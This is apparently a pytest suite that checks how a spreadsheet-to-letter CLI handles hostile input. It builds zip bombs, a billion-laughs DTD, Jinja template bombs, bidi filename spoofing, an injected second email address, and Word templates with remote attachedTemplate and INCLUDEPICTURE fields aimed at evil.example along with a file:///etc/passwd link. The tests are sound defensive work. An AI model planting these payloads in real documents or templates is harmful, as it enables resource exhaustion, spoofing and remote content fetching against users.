"""Hostile or unlucky input through the real CLI: a located error or a normal run, in bounded
time and memory, never a crash (issue 11).

Each workbook is a real .xlsx built with XlsxWriter and then edited at the XML level where
Excel itself would store something XlsxWriter cannot write (a cell at XFD1048576, `_xD83D_`,
a serial 60). Time and memory are measured in a child process (tests/hostile.py); the bounds
are generous so they never flake, yet far below what the unbounded code took.
"""

from __future__ import annotations

import os
import re
import unicodedata
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from hostile import add_cells, inline, rewrite, run_cli, set_cell

from factory import contract_sheets, write_sheets

TODAY = "2026-11-25"
IV = {
    "Interview ID": "ACME-1",
    "Company": "Acme",
    "Position": "Clerk",
    "Interview Date": datetime(2026, 11, 24, 10, 0),
    "Status": "Interviewed",
    "Want Job": "Yes",
    "Strengths": "ten years of retail",
}
CT = {
    "Contact ID": "C1",
    "Interview ID": "ACME-1",
    "Role": "Interviewer",
    "Honorific": "Ms.",
    "First Name": "Ann",
    "Last Name": "Lee",
    "Job Title": "Manager",
    "Preferred Channel": "Mail",
    "Personal Note": "the new store",
}
#: Sheet order in book(): Profile, Interviews, Contacts, Log, How to use.
PROFILE, INTERVIEWS, CONTACTS, LOG, GUIDE = range(5)
#: Bounds for a workbook of one interview, whatever hides in it (the bad cases took 26 s to
#: hours and 1.7 to 6.2 GB, or aborted).
SECONDS = 20
MIB = 400


def book(tmp_path: Path, name: str = "t.xlsx", iv: dict | None = None, ct: dict | None = None,
         **sheets: list) -> Path:  # fmt: skip
    """Write a small contract workbook (one interview, one interviewer) with a guide sheet."""
    all_sheets = contract_sheets(interviews=[iv or IV], contacts=[ct or CT])
    all_sheets["How to use"] = [["Fill in Profile first."]]
    all_sheets.update(sheets)
    return write_sheets(tmp_path / name, all_sheets)


def assert_refused(m, message: str, path: Path | None = None, before: bytes | None = None) -> None:
    """Exit 1 with the located message, no traceback, and the workbook unchanged."""
    assert m.code == 1, (m.code, m.err[-2000:])
    assert message in m.err, m.err[-2000:]
    assert "Traceback" not in m.err
    if path is not None and before is not None:
        assert path.read_bytes() == before
        assert not (path.parent / f"{path.stem}.backups").exists()


def assert_bounded(m, seconds: float = SECONDS, mib: float = MIB) -> None:
    """The run took less than the time and memory bounds."""
    assert m.seconds < seconds, f"{m.seconds:.1f} s"
    assert m.mib < mib, f"{m.mib:.0f} MiB"


# --- far cells -------------------------------------------------------------------------------

FAR = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>stray</t></is></c></row>'


def test_stray_far_cell_on_a_sheet_of_the_user_costs_nothing(tmp_path: Path) -> None:
    """One value at the far end of a sheet the tool does not read: check and run finish at once,
    and the cell is still there, untouched."""
    path = add_cells(book(tmp_path), GUIDE, FAR)
    m = run_cli("check", str(path))
    assert (m.code, m.out) == (0, "t.xlsx is ready to run.\n"), m.err[-2000:]
    assert_bounded(m, 10, 200)
    m = run_cli("run", str(path), "--today", TODAY, "--no-letters")
    assert m.code == 0, m.err[-2000:]
    assert "Marked" in m.out
    assert_bounded(m)
    with zipfile.ZipFile(path) as zf:
        part = zf.read(f"xl/worksheets/sheet{GUIDE + 1}.xml")
    assert b'r="XFD1048576"' in part and b"stray" in part


@pytest.mark.parametrize(
    ("ref", "grid"),
    [("XFA1048576", "17,176,723,456 cells (1,048,576 rows by 16,381 columns)"),
     ("CV300000", "30,000,000 cells (300,000 rows by 100 columns)")],
)  # fmt: skip
def test_stray_far_value_on_a_contract_sheet_is_refused_at_once(
    tmp_path: Path, ref: str, grid: str
) -> None:
    """A value far from the table on Interviews would mean a grid of millions of cells: check
    and run refuse at once, naming the cell and what to do, and write nothing."""
    row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    far = FAR.replace("1048576", row).replace("XFD", ref.rstrip("0123456789"))
    path = add_cells(book(tmp_path), INTERVIEWS, far)
    before = path.read_bytes()
    expected = (f"t.xlsx: Interviews!{ref}: holds a value far from the rest of the sheet: "
                f"reading it would mean a grid of {grid}")  # fmt: skip
    m = run_cli("check", str(path))
    assert_refused(m, expected)
    assert "delete that cell's content (or move it next to your table) and save" in m.err
    assert_bounded(m, 10, 200)
    m = run_cli("run", str(path), "--today", TODAY, "--out", str(tmp_path / "out"))
    assert_refused(m, expected, path, before)
    assert_bounded(m, 10, 200)


def test_a_row_beyond_excels_last_row_is_refused_at_once(tmp_path: Path) -> None:
    """Rows run to 1,048,576 in Excel and LibreOffice: a Log row numbered beyond is refused."""
    rows = '<row r="1048577"><c r="A1048577" t="inlineStr"><is><t>x</t></is></c></row>'
    path = add_cells(book(tmp_path), LOG, rows)
    m = run_cli("check", str(path))
    assert_refused(m, "t.xlsx: Log!1048577:1048577: has a cell beyond the last row or column "
                   "Excel has (row 1,048,576, column XFD)")  # fmt: skip
    assert_bounded(m, 10, 200)


# --- files that are not files ----------------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes on this system")
@pytest.mark.parametrize("command", ["check", "run"])
def test_fifo_named_xlsx_is_refused_before_opening(tmp_path: Path, command: str) -> None:
    """A named pipe called x.xlsx is refused at once instead of blocking forever."""
    path = tmp_path / "x.xlsx"
    os.mkfifo(path)
    m = run_cli(command, str(path), timeout=30)
    assert_refused(m, "x.xlsx: is a named pipe (FIFO), not a workbook file")
    assert_bounded(m, 10)


def test_device_is_refused(tmp_path: Path) -> None:
    """A device (here /dev/zero, endless) is refused before anything reads it."""
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero")
    m = run_cli("check", "/dev/zero", timeout=30)
    assert_refused(m, "error: zero: is a device, not a workbook file")


# --- zip members -----------------------------------------------------------------------------


def test_member_that_inflates_to_gigabytes_is_refused(tmp_path: Path) -> None:
    """A small file holding a 1 GiB member is refused from the zip directory, not unpacked."""
    path = book(tmp_path)
    big = tmp_path / "big.bin"
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf:
        fh = zf.open("xl/media/big.bin", "w", force_zip64=True)
        chunk = b"\0" * (16 << 20)
        for _ in range(1024 // 16):
            fh.write(chunk)
        fh.close()
    assert path.stat().st_size < 4 << 20
    before = path.read_bytes()
    for command in (["check"], ["run", "--today", TODAY]):
        m = run_cli(*command, str(path))
        assert_refused(m, "error: t.xlsx: its part xl/media/big.bin unpacks to 1,024 MiB, more "
                       "than the limit of 512 MiB for one part", path, before)  # fmt: skip
        assert_bounded(m, 15, 200)
    assert not big.exists()


def test_member_with_a_bomb_ratio_is_refused(tmp_path: Path) -> None:
    """A member under the size limit but compressed a thousand times is refused as a bomb."""
    path = book(tmp_path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/media/pad.bin", b"\0" * (100 << 20))
    m = run_cli("check", str(path))
    assert_refused(m, "error: t.xlsx: its part xl/media/pad.bin unpacks 1,0")
    assert "times bigger than it is stored, more than the limit of 200" in m.err
    assert_bounded(m, 15, 200)


def test_dtd_in_a_sheet_is_refused(tmp_path: Path) -> None:
    """A DOCTYPE (XXE, billion laughs) in a sheet part is a located refusal, not parsed."""
    path = book(tmp_path)
    part = "xl/worksheets/sheet2.xml"
    with zipfile.ZipFile(path) as zf:
        xml = zf.read(part)
    laughs = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    xml = xml.replace(b"?>", b"?>" + laughs, 1)
    rewrite(path, {part: xml})
    m = run_cli("check", str(path))
    assert_refused(m, "error: t.xlsx: its part xl/worksheets/sheet2.xml declares a DTD")


@pytest.mark.parametrize("plain", [True, False], ids=["plain", "with-a-comment"])
def test_broken_xml_in_a_sheet_names_the_sheet_and_where(tmp_path: Path, plain: bool) -> None:
    """A sheet whose XML breaks off mid-way (a crashed save, a hand edit) names the sheet, the
    part and the line and column, with or without a comment in it; nothing written."""
    path = book(tmp_path)
    part = "xl/worksheets/sheet3.xml"  # Contacts
    with zipfile.ZipFile(path) as zf:
        xml = zf.read(part)
    if not plain:  # a comment: the tag counts alone cannot tell
        xml = xml.replace(b"<sheetData>", b"<sheetData><!-- kept by hand -->", 1)
    broken = xml.replace(b"</row>", b"<oops></row>", 1)
    assert broken != xml
    rewrite(path, {part: broken})
    before = path.read_bytes()
    for args in (["check"], ["run", "--today", "2026-11-25"]):
        m = run_cli(*args, str(path))
        assert_refused(m, "error: t.xlsx: Contacts: this sheet's file inside the workbook is "
                       "damaged (", path, before)  # fmt: skip
        assert re.search(r"at line 2, column [0-9]+ of xl/worksheets/sheet3\.xml\), so its "
                         "cells cannot be read — open the workbook in Excel or LibreOffice "
                         "Calc, let it repair the file", m.err), m.err  # fmt: skip
        assert "<string>" not in m.err


# --- dates at and beyond the ends of Excel's calendar ----------------------------------------


@pytest.mark.parametrize(
    ("serial", "message"),
    [
        ("60", 'Interview Date "60" is 1900-02-29, a day that never existed (an old Excel bug)'),
        (
            "0",
            'Interview Date "0" is day 0 of Excel\'s calendar (shown as 1900-01-00), which is '
            "no real day",
        ),
        ("-1", 'Interview Date "-1" is a negative date serial number, which is no day at all'),
        ("2958466", 'Interview Date "2958466" is after 9999-12-31, the last day Excel knows'),
    ],
)
def test_date_serials_excel_cannot_mean_are_located_errors(
    tmp_path: Path, serial: str, message: str
) -> None:
    """A date cell holding serial 60, 0, -1 or past 9999-12-31 is an error, never a guess."""
    path = set_cell(book(tmp_path), INTERVIEWS, "D2", f"<v>{serial}</v>")
    before = path.read_bytes()
    expected = f"t.xlsx: Interviews!D2: {message} — type the real date as YYYY-MM-DD"
    assert_refused(run_cli("check", str(path)), expected)
    assert_refused(run_cli("run", str(path), "--today", TODAY), expected, path, before)


def test_year_0000_typed_as_text_is_a_located_error(tmp_path: Path) -> None:
    """'0000-01-01' typed as text is an error naming the cell, not a ValueError traceback."""
    path = book(tmp_path, iv=dict(IV, **{"Interview Date": "0000-01-01"}))
    m = run_cli("check", str(path))
    assert_refused(m, 't.xlsx: Interviews!D2: Interview Date "0000-01-01" is not a real date '
                   "(there is no year 0; Excel's dates run from 1900 to 9999)")  # fmt: skip


def test_text_date_before_1900_is_a_located_error(tmp_path: Path) -> None:
    """'0226-11-23' (a typo for 2026) is before Excel's first date: an error, not year 226."""
    path = book(tmp_path, iv=dict(IV, **{"Decision Expected": "0226-11-23"}))
    assert_refused(
        run_cli("check", str(path)),
        't.xlsx: Interviews!G2: Decision Expected "0226-11-23" is before 1900, where Excel\'s '
        "dates begin — check the year",
    )


@pytest.mark.parametrize(
    "typed", [datetime(9999, 12, 31, 10, 0), "9999-12-31"], ids=["date-cell", "text"]
)
def test_last_day_excel_knows_runs_without_overflow(tmp_path: Path, typed: object) -> None:
    """9999-12-31 is a date like any other: check is ready and the run plans without a crash."""
    path = book(tmp_path, iv=dict(IV, **{"Interview Date": typed, "Decision Expected": typed}))
    assert run_cli("check", str(path)).code == 0
    for today in (TODAY, "9999-12-31"):
        m = run_cli("run", str(path), "--today", today, "--out", str(tmp_path / today))
        assert m.code == 0, m.err[-3000:]
        assert "Traceback" not in m.err
    assert "DUE       Fri 31 Dec 9999  R3    Thank-you letter" in m.out
    assert "R11" not in m.out  # an interview on the last day is not a week without news


# --- half an emoji ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ref", "sheet", "label"),
    [("R2", CONTACTS, "Personal Note"), ("B2", INTERVIEWS, "Company")],
    ids=["personal-note", "company"],
)
def test_lone_surrogate_is_a_located_error_not_a_cut_off_letter(
    tmp_path: Path, ref: str, sheet: int, label: str
) -> None:
    """Half an emoji (`_xD83D_`, as Excel stores it) stops check and run, naming the cell."""
    path = set_cell(book(tmp_path), sheet, ref, inline("Books _xD83D_ and more"), t="inlineStr")
    before = path.read_bytes()
    name = "Contacts" if sheet == CONTACTS else "Interviews"
    m = run_cli("check", str(path))
    assert_refused(m, "holds half of a character (a lone surrogate")
    assert f't.xlsx: {name}!{ref}: {label} "Books _xD83D_ and more" holds half' in m.err
    m = run_cli("run", str(path), "--today", TODAY, "--out", str(tmp_path / "out"))
    assert_refused(m, f"t.xlsx: {name}!{ref}: {label} ", path, before)
    assert not (tmp_path / "out").exists()


def test_escaped_emoji_pair_reaches_the_letter_whole(tmp_path: Path) -> None:
    """Both halves (`_xD83D__xDE00_`) make one emoji, and the letter goes on to its signature."""
    from docx import Document

    path = set_cell(
        book(tmp_path), CONTACTS, "R2", inline("the new store _xD83D__xDE00_."), t="inlineStr"
    )
    m = run_cli("run", str(path), "--today", TODAY, "--out", str(tmp_path / "out"))
    assert m.code == 0, m.err[-3000:]
    (letter,) = (tmp_path / "out").glob("* Thank-you — *.docx")
    text = "\n".join(p.text for p in Document(str(letter)).paragraphs)
    assert "the new store 😀." in text
    assert "\nSincerely,\nAlex Rivera\n" in text


# --- long cells ------------------------------------------------------------------------------


def test_32000_character_date_is_a_quick_error_quoting_an_excerpt(tmp_path: Path) -> None:
    """A huge text in a date cell is not fed to the date patterns, and the error is short."""
    path = book(tmp_path, iv=dict(IV, **{"Interview Date": "2026-11-23 " + "9" * 32_000}))
    m = run_cli("check", str(path))
    assert_refused(
        m,
        't.xlsx: Interviews!D2: Interview Date "2026-11-23 99999999999999999999999999999999999'
        '99999999999999… (32,011 characters)" is not a date — type it as YYYY-MM-DD',
    )
    assert len(m.err) < 500
    assert_bounded(m, 5, 200)


@pytest.mark.parametrize("words", [8_000, 200_000], ids=["40-kB", "1-MB"])
def test_cell_longer_than_excel_allows_names_the_limit(tmp_path: Path, words: int) -> None:
    """A cell over 32,767 characters (only a program can write one) is a located error."""
    path = set_cell(book(tmp_path), CONTACTS, "R2", inline("word " * words), t="inlineStr")
    before = path.read_bytes()
    expected = (
        f"t.xlsx: Contacts!R2: holds {5 * words:,} characters, more than Excel's limit of "
        "32,767 for one cell — shorten it"
    )
    m = run_cli("check", str(path))
    assert_refused(m, expected)
    assert len(m.err) < 500
    m = run_cli("run", str(path), "--today", TODAY, "--out", str(tmp_path / "out"))
    assert_refused(m, expected, path, before)
    assert_bounded(m, 10, 200)


def test_longest_legal_personal_note_gives_a_bounded_proofreading_report(tmp_path: Path) -> None:
    """6,553 unknown words (32,767 characters) in two notes: one finding per cell, not 100 MB."""
    import random

    rnd = random.Random(11)
    words = ["".join(rnd.choice("bcdfghjklmnpqrstvwxz") for _ in range(4)) for _ in range(6_553)]
    note = " ".join(words)[:32_767]
    second = dict(CT, **{"Contact ID": "C2", "First Name": "Bo", "Last Name": "Ek"})
    sheets = contract_sheets(
        interviews=[IV],
        contacts=[dict(CT, **{"Personal Note": note}), dict(second, **{"Personal Note": note})],
    )
    path = write_sheets(tmp_path / "t.xlsx", sheets)
    m = run_cli("run", str(path), "--today", TODAY, "--out", str(tmp_path / "out"))
    assert m.code == 0, m.err[-3000:]
    assert_bounded(m)
    report = (tmp_path / "out" / "2026-11-25 Proofreading.txt").read_text(encoding="utf-8")
    assert len(report) < 5_000 and len(m.out) < 10_000
    spelling = [ln for ln in report.splitlines() if "R6 spelling" in ln]
    assert len(spelling) == 2
    assert "Contacts!R2 (Personal Note): " in spelling[0]
    assert "Contacts!R3 (Personal Note): " in spelling[1]
    assert re.search(r"\" and 6,4\d\d more are not in the dictionary", spelling[0])


def test_each_check_lists_at_most_ten_findings_per_letter() -> None:
    """Thirty missing strengths give ten findings and one that counts the other twenty."""
    from followup_xl.proofread import MAX_PER_CHECK, LetterText, proofread_letter

    letter = LetterText(
        file="a.docx",
        kind="letter",
        paragraphs=("Dear Ms. Lee:", "Thank you for your time.", "Sincerely,", "Alex Rivera"),
        last_name="Lee",
        sender_name="Alex Rivera",
        wants_job=False,
        strengths=tuple(f"skill number {i}" for i in range(30)),
    )
    found = [f for f in proofread_letter(letter) if f.check == "qualifications"]
    assert len(found) == MAX_PER_CHECK + 1 == 11
    assert found[-1].message == "20 more finding(s) of this kind here are not listed"


# --- templates -------------------------------------------------------------------------------


def _template(folder: Path, *paragraphs: str, name: str = "thank_you_letter.docx") -> Path:
    """Write a letter template of these paragraphs (a real .docx) into folder."""
    from docx import Document

    folder.mkdir(exist_ok=True)
    doc = Document()
    for text in paragraphs:
        doc.add_paragraph(text)
    doc.save(str(folder / name))
    return folder


@pytest.mark.parametrize(
    ("tag", "message"),
    [
        ("{{ 'x' * 300000000 }}", "builds a value of more than 1,000,000 characters or items"),
        (
            "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
            "takes more than 1,000,000 loop steps and calls for one letter",
        ),
        (
            "{% set ns = namespace(s='x') %}{% for i in range(40) %}"
            "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
            "builds a value of more than 1,000,000 characters or items",
        ),
        ("{{ 'x'.ljust(300000000) }}", "passes 300,000,000 to a function"),
        ("{{ 'x'|center(300000000) }}", "passes 300,000,000 to a filter"),
        ("{{ 10 ** 100000000 }}", "raises a number to a power above 1000"),
        (
            "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
            "a macro calls itself without end",
        ),
        ("{{ (((9**999)**999)**999) > 1 }}", "makes a number of more than 10,000 bits"),
        ("{{ ('%03000000000d' % 1)|length }}", "formats a value wider than 1,000,000 characters"),
        ("{{ '%03000000000d'|format(1) }}", "formats a value wider than 1,000,000 characters"),
        ("{{ '{:>3000000000}'.format(1) }}", "formats a value wider than 1,000,000 characters"),
        ("{{ '<w:p>'|safe }}", "the rendered letter has markup inside a text run"),
        ("{{ '</w:t><w:p/><w:t>'|safe }}", "the rendered letter has a paragraph inside"),
    ],
    ids=["repeat", "nested-range", "doubling", "ljust", "center", "power", "recursion",
         "huge-int", "percent-width", "format-filter", "format-method", "raw-paragraph",
         "raw-paragraph-closed"],
)  # fmt: skip
def test_template_that_would_hang_or_fill_memory_is_refused(
    tmp_path: Path, tag: str, message: str
) -> None:
    """A template bomb stops at the check, before any letter or mark is written."""
    mine = _template(tmp_path / "mine", "{{ salutation }}", tag, "Sincerely,")
    path = book(tmp_path)
    before = path.read_bytes()
    out = tmp_path / "out"
    m = run_cli("run", str(path), "--today", TODAY, "--templates", str(mine), "--out", str(out))
    assert_refused(m, f"Error: letter templates in {mine} have problems:\n", path, before)
    assert f"thank_you_letter.docx: template error: the template {message}" in m.err or (
        f"thank_you_letter.docx: template error: {message}" in m.err
    ), m.err
    assert not out.exists()
    assert_bounded(m, 20, 300)


# --- file names ------------------------------------------------------------------------------


def test_bidi_and_format_characters_never_reach_a_file_name(tmp_path: Path) -> None:
    """A right-to-left override (file-name spoofing) and other invisible characters are dropped."""
    spoof = dict(CT, **{"First Name": "Ann\u202egpj.exe", "Last Name": "Lee\u2066\u200b\u00ad"})
    iv = dict(IV, Company="Ac\u200eme\ufeff")
    path = book(tmp_path, iv=iv, ct=spoof)
    m = run_cli("run", str(path), "--today", TODAY, "--out", str(tmp_path / "out"))
    assert m.code == 0, m.err[-3000:]
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert "2026-11-25 Thank-you — Acme — Anngpj.exe Lee.docx" in names, names
    assert not [n for n in names if any(unicodedata.category(ch) == "Cf" for ch in n)]


# --- email addresses -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed",
    ["p@x.com, evil@attacker.example", "Ann Lee <ann@x.com>", "ann@x", "ann.x.com", "a@b.com;c@d"],
)
def test_contact_email_must_be_one_address(tmp_path: Path, typed: str) -> None:
    """Two addresses in one cell (or a name, or no domain) is an error naming the cell."""
    path = book(tmp_path, ct=dict(CT, Email=typed, **{"Preferred Channel": "Email"}))
    before = path.read_bytes()
    expected = (
        f't.xlsx: Contacts!N2: Email "{typed}" is not one email address — type a single '
        "address such as ann.lee@example.com, without a name or a second address"
    )
    assert_refused(run_cli("check", str(path)), expected)
    out = tmp_path / "out"
    m = run_cli("run", str(path), "--today", TODAY, "--out", str(out))
    assert_refused(m, expected, path, before)
    assert not out.exists()


def test_profile_email_must_be_one_address(tmp_path: Path) -> None:
    """The sender's own address is checked the same way, at its Value cell."""
    sheets = contract_sheets(profile={"Email": "me@x.com, you@y.com"}, interviews=[IV])
    path = write_sheets(tmp_path / "t.xlsx", sheets)
    assert_refused(
        run_cli("check", str(path)),
        't.xlsx: Profile!B9: Email "me@x.com, you@y.com" is not one email address',
    )


def test_a_valid_email_reaches_the_draft_as_typed(tmp_path: Path) -> None:
    """A plain address still makes an email draft addressed to exactly that address."""
    path = book(
        tmp_path, ct=dict(CT, Email="ann.lee@acme.example", **{"Preferred Channel": "Email"})
    )
    m = run_cli("run", str(path), "--today", TODAY, "--out", str(tmp_path / "out"))
    assert m.code == 0, m.err[-3000:]
    (draft,) = (tmp_path / "out").glob("*.eml")
    assert "To: Ann Lee <ann.lee@acme.example>" in draft.read_text(encoding="utf-8")


# --- required columns ------------------------------------------------------------------------


def test_missing_interview_date_column_stops_check_and_run(tmp_path: Path) -> None:
    """Without Interview Date nothing can be planned: an error naming the headers found."""
    sheets = contract_sheets(interviews=[IV], contacts=[CT])
    header = sheets["Interviews"][0]
    at = header.index("Interview Date")
    sheets["Interviews"] = [row[:at] + row[at + 1 :] for row in sheets["Interviews"]]
    path = write_sheets(tmp_path / "t.xlsx", sheets)
    before = path.read_bytes()
    expected = (
        't.xlsx: Interviews!1:1: has no column "Interview Date" in row 1 (found: Interview ID, '
        "Company, Position, Status, Want Job,"
    )
    assert_refused(run_cli("check", str(path)), expected)
    assert_refused(run_cli("run", str(path), "--today", TODAY), expected, path, before)


def test_optional_columns_may_be_missing(tmp_path: Path) -> None:
    """A column no rule reads (Notes, Outcome, …) may be absent: a warning, and the run works."""
    sheets = contract_sheets(interviews=[IV], contacts=[CT])
    for name in ("Interviews", "Contacts"):
        at = sheets[name][0].index("Notes")
        sheets[name] = [row[:at] + row[at + 1 :] for row in sheets[name]]
    path = write_sheets(tmp_path / "t.xlsx", sheets)
    m = run_cli("check", str(path))
    assert m.code == 0, m.err
    assert 'warning: t.xlsx: Interviews!1:1: has no column "Notes"; it is treated as empty' in m.out


_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _hostile_template(folder: Path) -> Path:
    """A thank-you template with a remote attachedTemplate, INCLUDEPICTURE fields (simple and
    complex), a file: hyperlink, and a plain https link that may stay."""
    _template(
        folder,
        "{{ salutation }}",
        "{{ opening }} {{ interest }}",
        "{{ qualifications }}",
        "{{ enclosure_sentence }}",
        "{{ closing }}",
        "Sincerely,",
        "{{ sender_name }}",
        "{{ enclosures_line }}",
    )
    path = folder / "thank_you_letter.docx"
    with zipfile.ZipFile(path) as zf:
        doc = zf.read("word/document.xml").decode("utf-8")
        rels = zf.read("word/_rels/document.xml.rels").decode("utf-8")
        settings = zf.read("word/settings.xml").decode("utf-8")
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdFile" Type="{_R}/hyperlink" Target="file:///etc/passwd" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdWeb" Type="{_R}/hyperlink" Target="https://acme.example/jobs" '
        'TargetMode="External"/></Relationships>',
    )
    fields = (
        "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/p.png\" \\d '>"
        "<w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>"
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
        '</w:instrText></w:r><w:r><w:instrText>TEXT "http://evil.example/t.docx" </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rIdFile"><w:r><w:t>my files</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdWeb"><w:r><w:t>our jobs page</w:t></w:r></w:hyperlink></w:p>'
    )
    doc = doc.replace("<w:sectPr", fields + "<w:sectPr", 1)
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings)
    if "xmlns:r=" not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{_R}" ', 1)
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{_R}/attachedTemplate" '
        'Target="http://evil.example/normal.dotm" TargetMode="External"/></Relationships>'
    )
    rewrite(
        path,
        {
            "word/document.xml": doc.encode("utf-8"),
            "word/_rels/document.xml.rels": rels.encode("utf-8"),
            "word/settings.xml": settings.encode("utf-8"),
        },
        extra={"word/_rels/settings.xml.rels": settings_rels.encode("utf-8")},
    )
    return folder


def test_external_links_in_templates_are_left_out_with_a_warning(tmp_path: Path) -> None:
    """Remote template, INCLUDEPICTURE/INCLUDETEXT and file: links never reach a letter."""
    mine = _hostile_template(tmp_path / "mine")
    path = book(tmp_path)
    out = tmp_path / "out"
    m = run_cli("run", str(path), "--today", TODAY, "--templates", str(mine), "--out", str(out))
    assert m.code == 0, m.err[-3000:]
    warned = [ln for ln in m.err.splitlines() if ln.startswith("warning: thank_you_letter.docx")]
    assert warned == [
        "warning: thank_you_letter.docx: left out of every letter: a hyperlink to a file or "
        "another computer (file:///etc/passwd)",
        "warning: thank_you_letter.docx: left out of every letter: a template attached from "
        "elsewhere (http://evil.example/normal.dotm)",
        "warning: thank_you_letter.docx: left out of every letter: a field that fetches "
        'content (INCLUDEPICTURE "http://evil.example/p.png" \\d)',
        "warning: thank_you_letter.docx: left out of every letter: a field that fetches "
        'content (INCLUDETEXT "http://evil.example/t.docx")',
    ]
    for letter in out.glob("*.docx"):
        with zipfile.ZipFile(letter) as zf:
            blob = b"".join(zf.read(n) for n in zf.namelist())
        assert b"evil.example" not in blob and b"file:///" not in blob, letter.name
    (thanks,) = out.glob("* Thank-you — *.docx")
    with zipfile.ZipFile(thanks) as zf:
        assert b"https://acme.example/jobs" in zf.read("word/_rels/document.xml.rels")
        assert b"my files" in zf.read("word/document.xml")


def test_external_links_in_templates_are_refused_under_strict(tmp_path: Path) -> None:
    """With --strict the same template stops the run before anything is written."""
    mine = _hostile_template(tmp_path / "mine")
    path = book(tmp_path)
    before = path.read_bytes()
    out = tmp_path / "out"
    m = run_cli(
        "run", str(path), "--today", TODAY, "--templates", str(mine), "--out", str(out), "--strict"
    )
    assert_refused(
        m,
        "Error: letter templates hold links to other computers or files, and --strict was "
        "given:\nthank_you_letter.docx: a hyperlink to a file or another computer "
        "(file:///etc/passwd)\n",
        path,
        before,
    )
    assert not out.exists()


@pytest.mark.parametrize(
    ("instr", "removed"),
    [
        (' HYPERLINK "file:///etc/passwd" ', True),
        (" HYPERLINK \\\\\\\\server\\\\share\\\\x.docx ", True),
        (' LINK Excel.Sheet.12 "C:\\\\a.xlsx" ', True),
        (' HYPERLINK "https://acme.example" ', False),
        (' HYPERLINK \\l "top" ', False),
        (" PAGE ", False),
    ],
)
def test_which_fields_are_removed(instr: str, removed: bool) -> None:
    """Fields that fetch (or point at files) go; web links, bookmarks and page numbers stay."""
    import io

    from docx import Document

    from followup_xl.docxsafe import strip_external

    buf = io.BytesIO()
    doc = Document()
    doc.add_paragraph("x")
    doc.save(buf)
    data = buf.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = zf.read("word/document.xml").decode("utf-8")
    field = f'<w:p><w:fldSimple w:instr="{instr.replace(chr(34), "&quot;")}"/></w:p>'
    xml = xml.replace("<w:sectPr", field + "<w:sectPr", 1)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = xml.encode() if info.filename == "word/document.xml" else src.read(info)
            dst.writestr(info, body)
    cleaned = strip_external(out.getvalue())
    assert bool(cleaned.removed) is removed, cleaned.removed


def test_the_docs_list_exactly_the_optional_columns() -> None:
    """docs/workbook.md's list of optional columns is the contract's, sheet by sheet."""
    from followup_xl import contract as C

    doc = (Path(__file__).resolve().parents[1] / "docs" / "workbook.md").read_text("utf-8")
    text = " ".join(doc.split("**optional** columns may be left out", 1)[1].split())
    for sheet in (C.INTERVIEWS_SHEET, C.CONTACTS_SHEET, C.LOG_SHEET):
        columns = C.SHEETS[sheet]
        listed = text.split(f"{sheet}: ", 1)[1].split(";", 1)[0].split(".", 1)[0]
        assert listed.split(", ") == [c.name for c in columns if c.optional], sheet


# --- growth ----------------------------------------------------------------------------------


def test_joining_letters_grows_about_linearly() -> None:
    """Four times the letters cost at most about four times the work to join.

    Work is the Python and C function calls made while joining, counted, not timed. A C
    function's own loop counts as one call, which is why the join appends to the body's end
    and never inserts at an index (lxml walks the body for that).
    """
    import sys

    from followup_xl import letters
    from followup_xl.letters import LetterData, letter_context
    from followup_xl.letters.render import Renderer
    from followup_xl.model import Action, Contact, Interview, Kind, Profile, Status

    day = datetime(2026, 11, 25).date()
    iv = Interview(row=2, interview_id="A-1", company="Acme", interview_date=day)
    contact = Contact(row=2, contact_id="C1", interview_id="A-1", honorific="Ms.",
                      first_name="Ann", last_name="Lee")  # fmt: skip
    act = Action(rule="R3", kind=Kind.THANK_YOU_LETTER, status=Status.DUE, due=day, why="",
                 interview_id="A-1", contact_id="C1")  # fmt: skip
    ctx = letter_context(LetterData(act, Profile(name="Alex Rivera"), contact, iv), day)
    renderer = Renderer(letters.check_templates(None))
    part = renderer.render("thank_you_letter.docx", ctx, day, "US", "t")

    def calls(n: int) -> int:
        count = 0

        def profile(frame: object, event: str, arg: object) -> None:
            nonlocal count
            count += event in ("call", "c_call")

        sys.setprofile(profile)
        try:
            letters.join([part] * n, day)
        finally:
            sys.setprofile(None)
        return count

    small, large = calls(64), calls(256)
    assert large <= 4.5 * small, (small, large)  # a join growing as n² would be near 16


